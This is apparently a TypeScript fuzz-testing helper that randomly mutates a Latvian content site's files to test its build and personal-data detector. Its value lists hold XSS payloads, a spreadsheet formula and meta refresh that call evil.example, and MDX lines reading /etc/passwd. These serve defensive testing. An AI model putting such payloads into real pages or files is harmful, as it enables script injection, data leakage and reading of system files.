import {
  cpSync,
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';

/** A small seeded generator (mulberry32): the same seed gives the same mutations. */
export function random(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    int: (max: number) => Math.floor(next() * max),
    pick: <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)] as T,
  };
}
export type Random = ReturnType<typeof random>;

/** Personal data in the spellings that used to get past the detector. */
export const PERSONAL_DATA = [
  '29\u00a0123\u00a0456',
  'tel.29123456',
  '29-123-456',
  '29.123.456',
  '+371-29123456',
  '\uff12\uff19\uff11\uff12\uff13\uff14\uff15\uff16',
  'janis.ozols\uff20example.lv',
  'janis.oz\u200bols@example.lv',
  '120345 12345',
  'anna.berzina@example.lv',
];

/** Values an editor might write into any field: YAML and JSON specials, code, HTML, odd text. */
export const VALUES = [
  '*Svarīgi*',
  '&anchor x',
  '!!js/function x',
  '!custom x',
  'Part one ---',
  '2012-03-01',
  '0000-01-01',
  '2011-02-29',
  '.nan',
  '.inf',
  'yes',
  'null',
  '~',
  'constructor',
  '__proto__',
  'toString',
  '{0–100}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)//',
  '=HYPERLINK("https://evil.example/?x="&A1,"Atvērt")',
  'Vērtēšana: piemēri',
  '- saraksts',
  '[a, b',
  '"nav aizvērts',
  'x'.repeat(5000),
  'a\u0000b',
  '\u202eright-to-left',
  'مرحبا',
  '👩‍👩‍👧',
  'e\u0301',
  '',
  '   ',
  ...PERSONAL_DATA,
];

/** Lines that might turn up in a Markdown or MDX body. */
export const BODY_LINES = [
  "import { readFileSync } from 'node:fs'",
  "export const p = readFileSync('/etc/passwd', 'utf8')",
  '<pre>{p}</pre>',
  "import raw from '/etc/passwd?raw'",
  '{process.env.HOME}',
  '<!-- TODO -->',
  '<br>',
  'Punkti {0–100}.',
  'Mazāk par <50 punktiem.',
  '<Example />',
  '`<Example />` kodā',
  '<CriterionResults code="1" />',
  '<CriterionResults code={"1"} />',
  '<CriterionResults code="99" />',
  '<AggregateTable by="name" />',
  '<ScoreProfile {...x} />',
  '<script>alert(1)</script>',
  '<meta http-equiv="refresh" content="2;url=https://evil.example/">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '[x](javascript:alert(1))',
  '[x](jav&#x09;ascript:alert(1))',
  '<javascript:alert(1)>',
  '![x](https://evil.example/p.png)',
  '[ok](https://example.lv) un [pasts](mailto:a@b.lv)',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '---',
  '\u0000',
];

/** Every file of a tree, relative to it. */
export function listFiles(dir: string): string[] {
  return (readdirSync(dir, { recursive: true, withFileTypes: true }) as import('node:fs').Dirent[])
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name).slice(dir.length + 1))
    .sort();
}

/** What a mutation did, for the failure message, and what personal data went into pilot files. */
export interface Mutation {
  description: string;
  pilotPersonalData: string[];
  /** Paths, relative to the tree, that the mutation changed or created. */
  touched: string[];
}

function mutateJsonValue(text: string, rng: Random, value: unknown): string {
  let data: unknown;
  try {
    data = JSON.parse(text);
  } catch {
    return text;
  }
  const holders: Array<{ parent: Record<string, unknown> | unknown[]; key: string | number }> = [];
  const walk = (node: unknown) => {
    if (Array.isArray(node))
      node.forEach((item, i) => (holders.push({ parent: node, key: i }), walk(item)));
    else if (node && typeof node === 'object')
      for (const [key, item] of Object.entries(node)) {
        holders.push({ parent: node as Record<string, unknown>, key });
        walk(item);
      }
  };
  walk(data);
  if (holders.length === 0) return text;
  const { parent, key } = rng.pick(holders);
  if (rng.next() < 0.2 && !Array.isArray(parent) && typeof value === 'string') {
    // The value becomes a key instead.
    (parent as Record<string, unknown>)[value] = (parent as Record<string, unknown>)[key];
  } else (parent as Record<string | number, unknown>)[key] = value;
  return JSON.stringify(data, null, 2);
}

function mutateFrontmatter(text: string, rng: Random, value: string): string {
  const lines = text.split('\n');
  const end = lines.indexOf('---', 1);
  const fields = lines.flatMap((line, i) =>
    i > 0 && i < end && /^\s*-?\s*\w*:? /.test(line) ? [i] : [],
  );
  if (fields.length === 0) return text;
  const at = rng.pick(fields);
  const line = lines[at] ?? '';
  const prefix = /^(\s*(?:- )?(?:[\w]+: )?)/.exec(line)?.[1] ?? '';
  lines[at] = `${prefix}${rng.next() < 0.5 ? value : JSON.stringify(value)}`;
  return lines.join('\n');
}

/** Applies one random mutation to the tree in `dir`. */
export function mutate(dir: string, rng: Random): Mutation {
  const files = listFiles(dir);
  const file = rng.pick(files);
  const path = join(dir, file);
  const isPilot = file.startsWith('pilots/');
  const text = readFileSync(path, 'utf8');
  const kind = rng.int(12);
  const value = rng.pick(VALUES);
  const personal = (v: string) => (isPilot && PERSONAL_DATA.includes(v) ? [v] : []);
  switch (kind) {
    case 0:
    case 1:
    case 2: {
      // A value replaced, in JSON or frontmatter.
      const next = file.endsWith('.json')
        ? mutateJsonValue(text, rng, rng.next() < 0.1 ? rng.int(1000) - 500 : value)
        : mutateFrontmatter(text, rng, value);
      writeFileSync(path, next);
      return {
        description: `${file}: value ${JSON.stringify(value).slice(0, 60)}`,
        pilotPersonalData: personal(value),
        touched: [file],
      };
    }
    case 3:
    case 4: {
      // A line added to a body.
      if (file.endsWith('.json')) {
        const data = rng.pick(PERSONAL_DATA);
        writeFileSync(path, mutateJsonValue(text, rng, `Zvaniet ${data}`));
        return {
          description: `${file}: text with ${data}`,
          pilotPersonalData: personal(data),
          touched: [file],
        };
      }
      const line = rng.pick(BODY_LINES);
      writeFileSync(path, `${text}\n${line}\n`);
      return {
        description: `${file}: body line ${JSON.stringify(line)}`,
        pilotPersonalData: [],
        touched: [file],
      };
    }
    case 5: {
      rmSync(path);
      return { description: `${file}: deleted`, pilotPersonalData: [], touched: [file] };
    }
    case 6: {
      const cut = rng.int(text.length);
      writeFileSync(path, text.slice(0, cut));
      return { description: `${file}: cut at ${cut}`, pilotPersonalData: [], touched: [file] };
    }
    case 7: {
      const encodings: Array<[string, Buffer]> = [
        ['UTF-16', Buffer.from(`\uFEFF${text}`, 'utf16le')],
        ['Latin-1 bytes', Buffer.from(text, 'latin1')],
        ['BOM', Buffer.from(`\uFEFF${text}`, 'utf8')],
        ['empty', Buffer.alloc(0)],
        ['CRLF', Buffer.from(text.replaceAll('\n', '\r\n'), 'utf8')],
      ];
      const [name, bytes] = rng.pick(encodings);
      writeFileSync(path, bytes);
      return { description: `${file}: ${name}`, pilotPersonalData: [], touched: [file] };
    }
    case 8: {
      const names = [
        file.replace(/\.(\w+)$/, (e) => e.toUpperCase()),
        file.replace(/\.md$/, '.markdown'),
        file.replace(/^(\w+)\/[^/]+\//, '$1/'),
        file.replace(/\/([^/]+)$/, '/2012/$1'),
        `extra/${file}`,
      ];
      const moved = rng.pick(names);
      const target = join(dir, moved);
      mkdirSync(dirname(target), { recursive: true });
      renameSync(path, target);
      return {
        description: `${file}: moved to ${moved}`,
        pilotPersonalData: [],
        touched: [file, moved],
      };
    }
    case 9: {
      rmSync(path);
      const how = rng.int(3);
      if (how === 0) mkdirSync(path);
      else if (how === 1) symlinkSync('missing-file', path);
      else symlinkSync(path, path);
      return {
        description: `${file}: ${['a folder', 'a broken link', 'a link loop'][how]}`,
        pilotPersonalData: [],
        touched: [file],
      };
    }
    case 10: {
      // A syntax character deleted or added.
      const at = rng.int(text.length);
      const char = rng.pick(['{', '}', '[', ']', ',', '"', ':', '\n', '---\n', '  ']);
      const next =
        rng.next() < 0.5
          ? text.slice(0, at) + text.slice(at + 1)
          : text.slice(0, at) + char + text.slice(at);
      writeFileSync(path, next);
      return { description: `${file}: syntax at ${at}`, pilotPersonalData: [], touched: [file] };
    }
    default: {
      // A deep nest.
      const depth = 100 + rng.int(3000);
      const next = file.endsWith('.json')
        ? mutateJsonValue(text, rng, JSON.parse(`${'['.repeat(depth)}${']'.repeat(depth)}`))
        : mutateFrontmatter(text, rng, `${'['.repeat(depth)}${']'.repeat(depth)}`);
      writeFileSync(path, next);
      return {
        description: `${file}: nested ${depth} deep`,
        pilotPersonalData: [],
        touched: [file],
      };
    }
  }
}

/** A fresh copy of a tree. */
export function copyTree(from: string, to: string): string {
  rmSync(to, { recursive: true, force: true });
  cpSync(from, to, { recursive: true });
  return to;
}

/**
 * Puts the paths a mutation touched back as they are in `base`, including folders it created,
 * so one working copy serves every run without copying the whole tree each time.
 */
export function restore(base: string, work: string, touched: readonly string[]): void {
  for (const path of touched) {
    // The topmost folder of the path that `base` does not have, or the path itself.
    let top = path;
    for (let parent = dirname(path); parent !== '.'; parent = dirname(parent)) {
      if (!existsSync(join(base, parent))) top = parent;
    }
    rmSync(join(work, top), { recursive: true, force: true });
    if (existsSync(join(base, path))) cpSync(join(base, path), join(work, path));
  }
}
